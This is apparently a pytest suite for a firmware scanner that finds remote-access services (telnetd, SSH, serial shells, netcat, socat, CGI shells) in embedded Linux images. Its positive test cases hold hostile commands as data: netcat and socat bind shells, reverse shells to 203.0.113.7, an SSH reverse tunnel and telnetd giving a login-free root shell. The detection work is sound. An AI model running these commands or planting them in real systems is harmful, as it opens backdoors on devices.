"""remote-access check: services started at boot or on demand, per init system and pattern.

Trees are built in tmp_path from the text fixtures in tests/data/checks/remote_access (see
its README) plus the symlinks an image would have, inventoried like a scan, and run through
the real runner.
"""

from __future__ import annotations

import os
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml

from checks_util import tree_context, write
from spyproof.checks.remote_access import CHECK
from spyproof.checks.remote_access_catalog import CatalogError, load_catalog, parse_catalog
from spyproof.checks.remote_access_image import SCRIPT_MAX_BYTES
from spyproof.checks.remote_access_shell import Command, scan
from spyproof.checks.runner import run_checks

FIX = Path(__file__).parent / "data" / "checks" / "remote_access"
SAMPLE = Path(__file__).resolve().parents[1] / "examples" / "sample-firmware" / "rootfs"


@dataclass(frozen=True)
class Link:
    target: str


def fixture(name: str) -> str:
    return (FIX / name).read_text()


def build(root: Path, files: dict[str, str | bytes | Link]) -> Path:
    for rel, content in files.items():
        if isinstance(content, Link):
            p = root / rel
            p.parent.mkdir(parents=True, exist_ok=True)
            os.symlink(content.target, p)
        else:
            write(root, rel, content, 0o755)
    return root


def check(root: Path):
    findings, runs = run_checks(tree_context(root), [CHECK], workers=1)
    return findings, runs[0]


def rules(findings) -> list[str]:
    return sorted(f.rule for f in findings)


def one(findings, rule: str):
    hits = [f for f in findings if f.rule == rule]
    assert len(hits) == 1, rules(findings)
    return hits[0]


def rcs(*lines: str) -> dict[str, str]:
    return {"etc/init.d/rcS": "#!/bin/sh\n" + "\n".join(lines) + "\n"}


BUSYBOX = {"bin/busybox": "#!/bin/true\n", "bin/sh": Link("busybox")}


# -- the sample image --------------------------------------------------------------------------


def test_sample_firmware_findings():
    findings, run = check(SAMPLE)
    assert rules(findings) == ["serial-shell", "serial-shell", "ssh-root-password-login",
                               "telnetd-shell-without-login"]
    telnet = one(findings, "telnetd-shell-without-login")
    assert telnet.severity == "critical" and telnet.clause == "NS-1"
    ev = telnet.evidence[0]
    assert (ev.path, ev.line, ev.text) == ("etc/init.d/rcS", 7, "/bin/telnetd -l /bin/sh -p 23")
    assert ev.sha256 and ev.rule == "telnetd-shell-without-login"
    d = telnet.details
    assert d["port"] == 23 and d["interface"] == "all" and d["applet"] == "telnetd"
    assert d["binary"] == "bin/busybox"
    assert d["authentication"]["shell_without_login"] is True
    assert d["started_by"]["init_system"] == "busybox-init"
    assert d["started_by"]["via"] == ["etc/inittab:1"]
    ssh = one(findings, "ssh-root-password-login")
    assert ssh.severity == "medium" and ssh.details["authentication"] == {
        "password_auth": True, "root_login": True, "root_password_auth": True,
        "empty_passwords": False, "shell_without_login": False}
    uart = [f for f in findings if f.rule == "serial-shell"]
    assert sorted(f.details["interface"] for f in uart) == ["console", "ttyS0"]
    assert {f.details["tty_kind"] for f in uart} == {"console", "serial"}
    assert run.skipped == [] and run.examined >= 3


def test_deterministic_ids():
    a, _ = check(SAMPLE)
    b, _ = check(SAMPLE)
    assert [f.id for f in a] == [f.id for f in b]
    assert [f.model_dump() for f in a] == [f.model_dump() for f in b]


# -- OpenWrt -------------------------------------------------------------------------------------


def openwrt(root: Path, config: str, enabled: bool = True) -> Path:
    files: dict[str, str | bytes | Link] = {
        "etc/init.d/dropbear": fixture("openwrt/dropbear.init"),
        "etc/config/dropbear": fixture(config),
        "etc/config/network": fixture("openwrt/network.config"),
        "etc/inittab": "::sysinit:/etc/init.d/rcS S boot\n",
        "usr/sbin/dropbear": "#!/bin/true\n",
    }
    if enabled:
        files["etc/rc.d/S19dropbear"] = Link("../init.d/dropbear")
    return build(root, files)


def test_openwrt_procd_dropbear_key_only_on_lan(tmp_path):
    findings, _ = check(openwrt(tmp_path, "openwrt/dropbear-keyonly.config"))
    f = one(findings, "dropbear")
    assert f.severity == "low"
    d = f.details
    assert d["interface"] == "lan" and d["bind_address"] == "192.168.1.1" and d["port"] == 22
    assert d["port_source"] == "uci"
    assert d["authentication"]["password_auth"] is False
    assert d["started_by"]["init_system"] == "procd"
    assert d["started_by"]["enabled_by"] == "etc/rc.d/S19dropbear"
    # the start and the config lines that set authentication
    assert f.evidence[0].path == "etc/init.d/dropbear"
    assert "procd_set_param command" in f.evidence[0].text
    assert [(e.path, e.line) for e in f.evidence[1:]] == [
        ("etc/config/dropbear", 1), ("etc/config/dropbear", 2), ("etc/config/dropbear", 3)]


def test_openwrt_procd_dropbear_default_passwords(tmp_path):
    findings, run = check(openwrt(tmp_path, "openwrt/dropbear-default.config"))
    f = one(findings, "ssh-root-password-login")
    assert f.severity == "medium" and f.details["interface"] == "all"
    assert any("disabled (enable '0')" in n for n in run.skipped)


def test_openwrt_script_not_enabled(tmp_path):
    findings, run = check(openwrt(tmp_path, "openwrt/dropbear-default.config", enabled=False))
    assert findings == []
    assert any("etc/init.d/dropbear: would start dropbear but is not enabled" in n
               for n in run.skipped)


def test_openwrt_telnet_login_sh_and_uhttpd(tmp_path):
    build(tmp_path, {
        "etc/inittab": "::sysinit:/etc/init.d/rcS S boot\n",
        "etc/init.d/telnet": fixture("openwrt/telnet.init"),
        "etc/rc.d/S50telnet": Link("../init.d/telnet"),
        "etc/init.d/dropbear": fixture("openwrt/dropbear.init"),  # not enabled
        "etc/init.d/uhttpd": fixture("openwrt/uhttpd.init"),
        "etc/rc.d/S50uhttpd": Link("../init.d/uhttpd"),
        "etc/config/uhttpd": fixture("openwrt/uhttpd.config"),
    })
    findings, run = check(tmp_path)
    assert rules(findings) == ["httpd", "telnetd"]
    telnet = one(findings, "telnetd")
    assert telnet.severity == "high" and telnet.details["port"] == 23
    assert telnet.details["login_program"] == "/bin/login.sh"
    assert telnet.details["authentication"]["shell_without_login"] is None
    web = one(findings, "httpd")
    assert web.severity == "info" and web.details["ports"] == [80, 443]
    # "/etc/init.d/dropbear enabled" asks, it does not start dropbear
    assert any("init.d/dropbear: would start" in n for n in run.skipped)


# -- systemd ---------------------------------------------------------------------------------


def systemd_tree(root: Path, sshd_config: str, *, socket: bool = False,
                 enabled: bool = True) -> Path:
    files: dict[str, str | bytes | Link] = {
        "lib/systemd/system/ssh.service": fixture("systemd/ssh.service"),
        "lib/systemd/system/ssh.socket": fixture("systemd/ssh.socket"),
        "lib/systemd/system/ssh@.service": fixture("systemd/ssh@.service"),
        "etc/ssh/sshd_config": fixture(sshd_config),
        "usr/sbin/sshd": "#!/bin/true\n",
    }
    wants = "etc/systemd/system/sockets.target.wants/ssh.socket" if socket else \
        "etc/systemd/system/multi-user.target.wants/ssh.service"
    if enabled:
        files[wants] = Link("/lib/systemd/system/" + wants.rsplit("/", 1)[1])
    return build(root, files)


def test_systemd_sshd_root_password(tmp_path):
    findings, _ = check(systemd_tree(tmp_path, "systemd/sshd_config-root-password"))
    f = one(findings, "ssh-root-password-login")
    assert f.severity == "medium"
    d = f.details
    assert d["started_by"]["init_system"] == "systemd" and d["started_by"]["enabled"] is True
    assert d["started_by"]["enabled_by"].endswith("multi-user.target.wants/ssh.service")
    assert d["port"] == 22 and d["arguments_resolved"] is False  # $SSHD_OPTS is unknown
    assert (f.evidence[0].path, f.evidence[0].line) == ("lib/systemd/system/ssh.service", 9)
    assert [(e.path, e.text) for e in f.evidence[1:]] == [
        ("etc/ssh/sshd_config", "PermitRootLogin yes"),
        ("etc/ssh/sshd_config", "PasswordAuthentication yes")]


def test_systemd_sshd_hardened_and_environment_file(tmp_path):
    systemd_tree(tmp_path, "systemd/sshd_config-hardened")
    findings, _ = check(tmp_path)
    f = one(findings, "sshd")
    assert f.severity == "low" and f.details["port"] == 2222
    assert f.details["interface"] == "10.0.0.1"
    write(tmp_path, "etc/default/ssh", fixture("systemd/default-ssh"))
    findings, _ = check(tmp_path)
    f = one(findings, "sshd")  # -p on the command line beats Port in sshd_config
    assert f.details["port"] == 2200 and f.details["arguments_resolved"] is True


def test_systemd_sshd_config_include_empty_passwords(tmp_path):
    systemd_tree(tmp_path, "systemd/sshd_config-root-password")
    write(tmp_path, "etc/ssh/sshd_config.d/50-vendor.conf",
          fixture("systemd/sshd_config.d-empty.conf"))
    findings, _ = check(tmp_path)
    f = one(findings, "ssh-empty-passwords")
    assert f.severity == "high"
    assert any(e.path == "etc/ssh/sshd_config.d/50-vendor.conf" for e in f.evidence)


def test_systemd_socket_activation(tmp_path):
    findings, _ = check(systemd_tree(tmp_path, "systemd/sshd_config-root-password",
                                     socket=True))
    f = one(findings, "ssh-root-password-login")
    assert f.details["on_demand"] is True and f.details["port_source"] == "socket"
    assert f.evidence[0].path == "lib/systemd/system/ssh@.service"
    assert any(e.path == "lib/systemd/system/ssh.socket" and e.text == "ListenStream=22"
               for e in f.evidence)


def test_systemd_unit_not_enabled(tmp_path):
    findings, run = check(systemd_tree(tmp_path, "systemd/sshd_config-root-password",
                                       enabled=False))
    assert findings == []
    assert any("unit ssh.service would start sshd but is not enabled" in n
               for n in run.skipped)


def test_systemd_serial_getty_autologin_dropin(tmp_path):
    build(tmp_path, {
        "lib/systemd/system/serial-getty@.service": fixture("systemd/serial-getty@.service"),
        "etc/systemd/system/getty.target.wants/serial-getty@ttyS0.service":
            Link("/lib/systemd/system/serial-getty@.service"),
        "sbin/agetty": "#!/bin/true\n",
    })
    findings, _ = check(tmp_path)
    f = one(findings, "getty")
    assert f.severity == "info" and f.details["interface"] == "ttyS0"
    write(tmp_path, "etc/systemd/system/serial-getty@ttyS0.service.d/autologin.conf",
          fixture("systemd/autologin.conf"))
    findings, _ = check(tmp_path)
    f = one(findings, "getty-autologin")
    assert f.severity == "critical" and f.details["interface"] == "ttyS0"
    assert f.details["autologin"] == "root"
    assert f.evidence[0].path.endswith("autologin.conf")


# -- SysV / Buildroot --------------------------------------------------------------------------


def test_debian_sysv_script_with_rc_links(tmp_path):
    build(tmp_path, {
        "etc/inittab": fixture("inittab/sysv.inittab"),
        "etc/init.d/ssh": fixture("sysv/debian-ssh.init"),
        "etc/rc2.d/S01ssh": Link("../init.d/ssh"),
        "etc/default/ssh": 'SSHD_OPTS="-p 2022"\n',
        "etc/ssh/sshd_config": "PasswordAuthentication no\n",
        "usr/sbin/sshd": "#!/bin/true\n",
        "lib/lsb/init-functions": "log_daemon_msg() { :; }\n",
    })
    findings, _ = check(tmp_path)
    f = one(findings, "sshd")
    assert f.details["port"] == 2022 and f.details["started_by"]["runlevel"] == "2"
    assert f.details["started_by"]["enabled_by"] == "etc/rc2.d/S01ssh"
    # the stop branch (start-stop-daemon --stop) starts nothing
    assert len([x for x in findings if x.details.get("service") == "sshd"]) == 1


def test_buildroot_rcs_loop_and_variables(tmp_path):
    build(tmp_path, {
        "etc/init.d/rcS": fixture("sysv/buildroot-rcS"),
        "etc/init.d/S50telnet": fixture("sysv/S50telnet"),
        "usr/sbin/telnetd": Link("../../bin/busybox"),
        **BUSYBOX,
    })
    findings, _ = check(tmp_path)
    f = one(findings, "telnetd-shell-without-login")
    assert f.details["port"] == 2323 and f.details["applet"] == "telnetd"
    assert f.details["started_by"]["via"] == ["etc/init.d/rcS:6"]
    assert f.evidence[0].path == "etc/init.d/S50telnet"


def test_busybox_init_defaults_without_inittab(tmp_path):
    build(tmp_path, {"sbin/init": Link("../bin/busybox"), **BUSYBOX,
                     **rcs("/usr/sbin/dropbear -s -w")})
    findings, _ = check(tmp_path)
    shell = one(findings, "serial-shell")
    assert shell.details["interface"] == "console"
    assert shell.evidence[0].path == "sbin/init" and shell.evidence[0].line is None
    assert one(findings, "dropbear").severity == "low"


@pytest.mark.parametrize("body", [
    "#telnetd -l /bin/sh\n# nc -l -p 1 -e /bin/sh\n",
    "exit 0\ntelnetd -l /bin/sh\n",
    "cat > /tmp/motd <<EOF\ntelnetd -l /bin/sh\nEOF\necho 'telnetd -l /bin/sh'\n",
    "start-stop-daemon -K -x /usr/sbin/telnetd\nkillall telnetd\n",
    "case \"$1\" in\n  telnetd) echo no ;;\nesac\n",
])
def test_clean_scripts_are_quiet(tmp_path, body):
    build(tmp_path, {"etc/init.d/rcS": "#!/bin/sh\n" + body})
    findings, _ = check(tmp_path)
    assert findings == []


@pytest.mark.parametrize(("command", "rule", "port"), [
    ("busybox nc -ll -p 4444 -e /bin/sh", "netcat-listen-shell", 4444),
    ("nc -lvnp 4445 -e /bin/bash &", "netcat-listen-shell", 4445),
    ('ncat -l 4446 --sh-exec "/bin/sh -i"', "netcat-listen-shell", 4446),
    ("nc.traditional -l -p 4447 -c /bin/sh", "netcat-listen-shell", 4447),
    ("telnetd -F -l /bin/ash -p 9999", "telnetd-shell-without-login", 9999),
    ('/usr/sbin/telnetd -l "/bin/login -f root"', "telnetd-shell-without-login", 23),
    ("sh -c 'telnetd -p 2300 -l /bin/sh'", "telnetd-shell-without-login", 2300),
    ("socat UDP-LISTEN:5000,bind=10.1.1.1 SYSTEM:'/bin/sh'", "socat-listen-shell", 5000),
])
def test_dangerous_variants(tmp_path, command, rule, port):
    build(tmp_path, rcs(command))
    f = one(check(tmp_path)[0], rule)
    assert f.severity == "critical" and f.details["port"] == port
    assert f.evidence[0].text == command


def test_dropbear_key_only_on_lan_address(tmp_path):
    build(tmp_path, rcs("/usr/sbin/dropbear -w -s -p 192.168.1.1:22"))
    f = one(check(tmp_path)[0], "dropbear")
    assert f.severity == "low" and f.details["interface"] == "192.168.1.1"
    assert f.details["authentication"]["root_login"] is False


def test_loopback_only_listener_is_info(tmp_path):
    build(tmp_path, rcs("dropbear -p 127.0.0.1:2222"))
    f = one(check(tmp_path)[0], "ssh-root-password-login")
    assert f.severity == "info" and f.details["interface"] == "loopback"


# -- inetd / xinetd / cron -------------------------------------------------------------------


def test_inetd_conf(tmp_path):
    build(tmp_path, {"etc/inetd.conf": fixture("inetd/inetd.conf"),
                     **rcs("/usr/sbin/inetd -f")})
    findings, _ = check(tmp_path)
    assert rules(findings) == ["ftpd", "telnetd", "telnetd-shell-without-login"]
    shell = one(findings, "telnetd-shell-without-login")
    d = shell.details
    assert d["port"] == 23 and d["on_demand"] is True and d["port_source"] == "inetd"
    assert d["started_by"]["superserver_started"] is True
    assert (shell.evidence[0].path, shell.evidence[0].line) == ("etc/inetd.conf", 3)
    assert one(findings, "ftpd").details["port"] == 21  # via tcpd
    assert one(findings, "telnetd").details["port"] == 2323


def test_inetd_port_from_image_services(tmp_path):
    build(tmp_path, {"etc/inetd.conf": "telnet stream tcp nowait root /sbin/telnetd telnetd\n",
                     "etc/services": "telnet\t\t2300/tcp\n"})
    f = one(check(tmp_path)[0], "telnetd")
    assert f.details["port"] == 2300
    assert f.details["started_by"]["superserver_started"] is False
    assert "No boot script" in f.explanation


def test_xinetd_tftp(tmp_path):
    build(tmp_path, {"etc/xinetd.d/tftp": fixture("inetd/xinetd-tftp")})
    f = one(check(tmp_path)[0], "tftpd-upload")
    assert f.severity == "high" and f.details["port"] == 69
    assert f.details["transport"] == "udp" and f.details["on_demand"] is True
    (tmp_path / "etc/xinetd.d/tftp").write_text(fixture("inetd/xinetd-tftp-disabled"))
    findings, run = check(tmp_path)
    assert findings == [] and any("tftpd is disabled" in n for n in run.skipped)


def test_crontab_netcat_and_socat(tmp_path):
    build(tmp_path, {"etc/crontabs/root": fixture("cron/root"),
                     "etc/crontab": fixture("cron/crontab-system")})
    findings, _ = check(tmp_path)
    assert rules(findings) == ["netcat-listen", "netcat-listen-shell", "socat-listen-shell"]
    nc = one(findings, "netcat-listen-shell")
    assert nc.details["port"] == 31337 and nc.evidence[0].line == 4
    assert nc.details["started_by"]["trigger"] == "schedule @reboot"
    assert one(findings, "netcat-listen").details["port"] == 5555
    socat = one(findings, "socat-listen-shell")
    assert socat.details["port"] == 4444 and socat.details["started_by"]["user"] == "root"


def test_vsftpd_config(tmp_path):
    build(tmp_path, {**rcs("/usr/sbin/vsftpd /etc/vsftpd.conf &"),
                     "etc/vsftpd.conf": "listen=YES\nlisten_port=2121\nanonymous_enable=YES\n"})
    f = one(check(tmp_path)[0], "ftp-anonymous")
    assert f.details["port"] == 2121 and f.details["port_source"] == "config"
    assert [(e.path, e.line) for e in f.evidence[1:]] == [("etc/vsftpd.conf", 3)]
    (tmp_path / "etc/vsftpd.conf").write_text("anonymous_enable=NO\n")
    f = one(check(tmp_path)[0], "ftpd")
    assert f.details["port"] == 21


def test_hotplug_script(tmp_path):
    build(tmp_path, {"etc/hotplug.d/iface/99-debug":
                     '[ "$ACTION" = ifup ] && /usr/sbin/utelnetd -p 2323 -i br0 -l /bin/ash &\n'})
    f = one(check(tmp_path)[0], "telnetd-shell-without-login")
    assert f.details["interface"] == "br0" and f.details["on_demand"] is True
    assert f.details["started_by"]["init_system"] == "hotplug"


# -- inittab -----------------------------------------------------------------------------------


def test_busybox_inittab(tmp_path):
    build(tmp_path, {"etc/inittab": fixture("inittab/busybox.inittab")})
    findings, _ = check(tmp_path)
    assert rules(findings) == ["getty", "getty", "serial-shell", "serial-shell"]
    shells = sorted(f.details["interface"] for f in findings if f.rule == "serial-shell")
    assert shells == ["console", "ttyS1"]
    gettys = sorted(f.details["interface"] for f in findings if f.rule == "getty")
    assert gettys == ["tty1", "ttyS0"]


def test_inittab_login_f_is_a_shell(tmp_path):
    build(tmp_path, {"etc/inittab": "ttyS0::respawn:/bin/login -f root\n"
                                    "ttyS1::respawn:/bin/login\n"})
    f = one(check(tmp_path)[0], "serial-shell")
    assert f.details["interface"] == "ttyS0"


def test_busybox_applet_named_directly(tmp_path):
    build(tmp_path, {**BUSYBOX, **rcs("/bin/busybox telnetd -l /bin/sh")})
    f = one(check(tmp_path)[0], "telnetd-shell-without-login")
    assert (f.details["binary"], f.details["applet"]) == ("bin/busybox", "telnetd")


def test_sysv_inittab_getty_autologin(tmp_path):
    build(tmp_path, {"etc/inittab": fixture("inittab/sysv.inittab")})
    findings, _ = check(tmp_path)
    auto = one(findings, "getty-autologin")
    assert auto.details["interface"] == "ttyS1" and auto.details["started_by"]["runlevel"] == "23"
    assert auto.details["started_by"]["init_system"] == "sysvinit"
    assert sorted(f.details["interface"] for f in findings if f.rule == "getty") == [
        "tty1", "ttyS0"]


def test_inittab_garbage_bytes(tmp_path):
    garbage = bytes(range(256)) * 40 + b"\n\xff\xfe::respawn\x00:/bin/sh\n"
    build(tmp_path, {"etc/inittab": garbage + b"\nttyS0::respawn:/bin/sh\n" + garbage})
    findings, run = check(tmp_path)
    assert rules(findings) == ["serial-shell"]
    assert any("not inittab entries" in n for n in run.skipped)


# -- bad input ---------------------------------------------------------------------------------


def test_huge_script_is_capped(tmp_path):
    path = write(tmp_path, "etc/init.d/rcS", "#!/bin/sh\ntelnetd -l /bin/sh\n")
    with path.open("r+b") as fh:  # 100 MB, mostly a hole; a second start past the cap
        fh.seek(100 * 1024 * 1024)
        fh.write(b"\nnc -l -p 4444 -e /bin/sh\n")
    findings, run = check(tmp_path)
    assert rules(findings) == ["telnetd-shell-without-login"]
    assert any(f"only the first {SCRIPT_MAX_BYTES}" in n for n in run.skipped)


def test_symlink_loop_in_init_d(tmp_path):
    build(tmp_path, {
        "etc/inittab": "::sysinit:/etc/init.d/rcS\n",
        "etc/init.d/a": Link("b"), "etc/init.d/b": Link("a"),
        "etc/init.d/self": Link("self"),
        "etc/rc.d/S10a": Link("../init.d/a"),
        **rcs("telnetd"),
    })
    findings, run = check(tmp_path)
    assert rules(findings) == ["telnetd"]
    assert any("etc/rc.d/S10a: link does not resolve" in n for n in run.skipped)
    assert any("etc/init.d/self: link does not resolve" in n for n in run.skipped)


def test_unreadable_and_binary_files_do_not_stop_the_check(tmp_path):
    build(tmp_path, {"etc/init.d/rcS": b"\x7fELF\x01\x01\x01" + bytes(200),
                     "etc/rc.local": "#!/bin/sh\nadbd &\n"})
    findings, _ = check(tmp_path)
    assert rules(findings) == ["adbd"]


# -- CGI shells -----------------------------------------------------------------------------


def test_cgi_shells(tmp_path):
    build(tmp_path, {
        "www/cgi-bin/cmd.cgi": fixture("cgi/cmd.cgi"),
        "www/cgi-bin/status.cgi": fixture("cgi/status.cgi"),
        "www/shell.php": fixture("cgi/shell.php"),
        "usr/lib/lua/luci/controller/diag.lua": fixture("cgi/diag.lua"),
        "etc/motd.cgi": fixture("cgi/cmd.cgi"),  # not under a web directory
        # negatives: request values that are only printed
        "www/echo.php": "<?php echo htmlspecialchars($_GET['q']); system('uptime'); ?>\n",
        "usr/lib/lua/luci/view/host.htm": '<%= luci.http.formvalue("host") %>\n'
                                          '<% os.execute("logger view") %>\n',
    })
    findings, _ = check(tmp_path)
    assert rules(findings) == ["cgi-lua-exec-request", "cgi-php-exec-request",
                               "cgi-shell-eval-request"]
    sh = one(findings, "cgi-shell-eval-request")
    assert (sh.evidence[0].path, sh.evidence[0].line) == ("www/cgi-bin/cmd.cgi", 6)
    assert sh.details["url_path"] == "/cgi-bin/cmd.cgi" and sh.severity == "critical"


def test_sample_cgi_is_quiet():
    findings, _ = check(SAMPLE)
    assert not [f for f in findings if f.rule.startswith("cgi-")]


# -- the catalog: every entry fires on a positive and stays quiet on a negative ------------------

TELNET = "/usr/sbin/telnetd"
# rule id -> (files that must fire it, files that must not)
RULE_EXAMPLES: dict[str, tuple[dict, dict]] = {
    "telnetd": (rcs("telnetd -p 23"), rcs("echo telnetd")),
    "telnetd-shell-without-login": (rcs("telnetd -l /bin/sh"), rcs("telnetd -l /bin/login")),
    "utelnetd": (rcs("utelnetd -p 2323 -i br0 -d"), rcs("utelnetd -l /bin/sh")),
    "rsh": (rcs("in.rshd -L &"), rcs("rsh host uptime")),
    "sshd": ({**rcs("/usr/sbin/sshd"), "etc/ssh/sshd_config": "PasswordAuthentication no\n"},
             {**rcs("/usr/sbin/sshd -t"), "etc/ssh/sshd_config": "PasswordAuthentication no\n"}),
    "dropbear": (rcs("dropbear -s -w"), rcs("dropbear -w")),
    "adbd": (rcs("/sbin/adbd &"), rcs("adb devices")),
    "gdbserver": (rcs("gdbserver :1234 /usr/bin/app"), rcs("gdb /usr/bin/app")),
    "ftpd": (rcs("tcpsvd -vE 0.0.0.0 21 ftpd /srv"), rcs("ftpget host f")),
    "tftpd": (rcs("in.tftpd -l -s /srv"), rcs("in.tftpd -l -c -s /srv")),
    "httpd": (rcs("httpd -p 8080 -h /www"), rcs("wget http://x/")),
    "cwmp": (rcs("/usr/sbin/cwmpd &"), rcs("echo cwmpd")),
    "getty": ({"etc/inittab": "ttyS0::respawn:/sbin/getty -L ttyS0 115200\n"},
              {"etc/inittab": "ttyS0::respawn:/sbin/getty -n -l /bin/sh -L ttyS0 115200\n"}),
    "serial-shell": ({"etc/inittab": "ttyS0::respawn:/bin/sh\n"},
                     {"etc/inittab": "ttyS0::respawn:/bin/sh /etc/fixup.sh\n"}),
    "netcat-listen-shell": (rcs("nc -lp 4444 -e /bin/sh &"), rcs("nc -lp 4444 -e /bin/fw")),
    "netcat-listen-pipe-shell": (rcs("busybox nc -l -p 4444 | busybox sh"),
                                 rcs("nc -l -p 4444 | tar x")),
    "netcat-reverse-shell": (rcs("nc 203.0.113.7 443 -e /bin/sh"),
                             rcs("nc 203.0.113.7 443 < /tmp/log")),
    "netcat-listen": (rcs("nc -l 5000 > /tmp/x"), rcs("nc 203.0.113.7 5000 < /tmp/x")),
    "socat-listen-shell": (rcs("socat TCP4-LISTEN:23,fork EXEC:/bin/bash"),
                           rcs("socat TCP4-LISTEN:23,fork EXEC:/usr/bin/cli")),
    "socat-reverse-shell": (rcs("socat TCP:203.0.113.7:443 EXEC:'/bin/sh -i',pty"),
                            rcs("socat TCP:203.0.113.7:443 EXEC:/usr/bin/report")),
    "socat-listen": (rcs("socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80"),
                     rcs("socat - TCP:127.0.0.1:80")),
    "ssh-reverse-tunnel": (rcs("dbclient -N -R 2222:localhost:22 tunnel@203.0.113.7"),
                           rcs("dbclient -N -L 8080:localhost:80 user@203.0.113.7")),
    "ssh-empty-passwords": (rcs("dropbear -B"), rcs("dropbear -B -s")),
    "ssh-root-password-login": (rcs("dropbear -p 22"), rcs("dropbear -p 22 -g")),
    "ssh-password-login": (rcs("dropbear -g"), rcs("dropbear -s")),
    "getty-autologin": ({"etc/inittab": "T0:23:respawn:/sbin/agetty -a root ttyS0 115200\n"},
                        {"etc/inittab": "T0:23:respawn:/sbin/agetty ttyS0 115200\n"}),
    "getty-shell-without-login": (
        {"etc/inittab": "ttyS0::respawn:/sbin/getty -n -l /bin/sh -L ttyS0 115200\n"},
        {"etc/inittab": "ttyS0::respawn:/sbin/getty -L ttyS0 115200\n"}),
    "ftp-anonymous": (rcs("ftpd -a ftp /srv"), rcs("ftpd /srv")),
    "tftpd-upload": (rcs("in.tftpd -l -c -s /srv"), rcs("in.tftpd -l -s /srv")),
}

# launcher entries -> a command that starts telnetd through it, and one that does not
LAUNCHER_EXAMPLES = {
    "nohup": ("nohup telnetd &", "nohup sleep 1 &"),
    "nice": ("nice -n 5 telnetd", "nice -n 5 sleep 1"),
    "ionice": ("ionice -c 3 telnetd", "ionice -c 3 sleep 1"),
    "env": ("env -i PATH=/bin telnetd", "env -i PATH=/bin sleep 1"),
    "timeout": ("timeout 3600 telnetd -F", "timeout 3600 sleep 1"),
    "start-stop-daemon": (f"start-stop-daemon -S -b -x {TELNET} -- -F",
                          f"start-stop-daemon -K -x {TELNET}"),
    "service_start": (f"service_start {TELNET}", "service_stop /usr/sbin/telnetd"),
    "tcpsvd": ("tcpsvd 0 2323 telnetd -i", "tcpsvd 0 2323 /usr/bin/echo-svc"),
    "respawn": ("respawn telnetd -F", "respawn sleep 1"),
}


def _rule_ids() -> set[str]:
    cat = load_catalog()
    return {s.id for s in cat.services.values() if s.severity} | {p.id for p in cat.patterns}


def test_every_rule_has_an_example():
    assert set(RULE_EXAMPLES) == _rule_ids()
    launchers = {spec.names[0] for spec in load_catalog().launchers.values()}
    assert set(LAUNCHER_EXAMPLES) == launchers


@pytest.mark.parametrize("rule", sorted(RULE_EXAMPLES))
def test_rule_positive_and_negative(tmp_path, rule):
    positive, negative = RULE_EXAMPLES[rule]
    build(tmp_path / "pos", positive)
    build(tmp_path / "neg", negative)
    hits = [f for f in check(tmp_path / "pos")[0] if f.rule == rule]
    assert len(hits) == 1, rules(check(tmp_path / "pos")[0])
    assert hits[0].source and hits[0].source.startswith("http")
    assert not [f for f in check(tmp_path / "neg")[0] if f.rule == rule]


@pytest.mark.parametrize("launcher", sorted(LAUNCHER_EXAMPLES))
def test_launcher_positive_and_negative(tmp_path, launcher):
    positive, negative = LAUNCHER_EXAMPLES[launcher]
    build(tmp_path / "pos", rcs(positive))
    build(tmp_path / "neg", rcs(negative))
    assert [f.details["service"] for f in check(tmp_path / "pos")[0]] == ["telnetd"]
    assert check(tmp_path / "neg")[0] == []


def test_catalog_entries_have_sources():
    raw = yaml.safe_load((Path(__file__).resolve().parents[1] / "src/spyproof/data" /
                          "checks/remote_services.yaml").read_text())
    assert raw["version"] == 1
    for section in ("services", "patterns", "launchers", "cgi_rules"):
        for entry in raw[section]:
            assert str(entry["source"]).startswith("http"), entry
    for section in ("configs", "uci"):
        for entry in raw[section].values():
            assert str(entry["source"]).startswith("http")


def test_catalog_rejects_bad_data():
    raw = yaml.safe_load((Path(__file__).resolve().parents[1] / "src/spyproof/data" /
                          "checks/remote_services.yaml").read_text())
    parse_catalog(raw)
    with pytest.raises(CatalogError):
        parse_catalog({**raw, "version": 2})
    bad = {**raw, "patterns": [{**raw["patterns"][0], "services": ["nope"]}]}
    with pytest.raises(CatalogError):
        parse_catalog(bad)


# -- the shell reader ---------------------------------------------------------------------------


def test_shell_reader_quoting_and_variables():
    text = ('PORT=23\nOPTS="-w -s"\nD=${DIR:-/srv}\n'
            "dropbear $OPTS -p \"$PORT\" \\\n  -r '/etc/key file'\n"
            "X=$(cat /proc/x); nc -l -p $X\nftpd $D 2>&1 >/dev/null &\n")
    cmds = [e for e in scan(text) if isinstance(e, Command)]
    assert cmds[0].argv == ["dropbear", "-w", "-s", "-p", "23", "-r", "/etc/key file"]
    assert cmds[0].line == 4
    assert cmds[1].argv == ["nc", "-l", "-p", "$X"] and cmds[1].unresolved
    assert cmds[2].argv == ["ftpd", "/srv"] and cmds[2].background


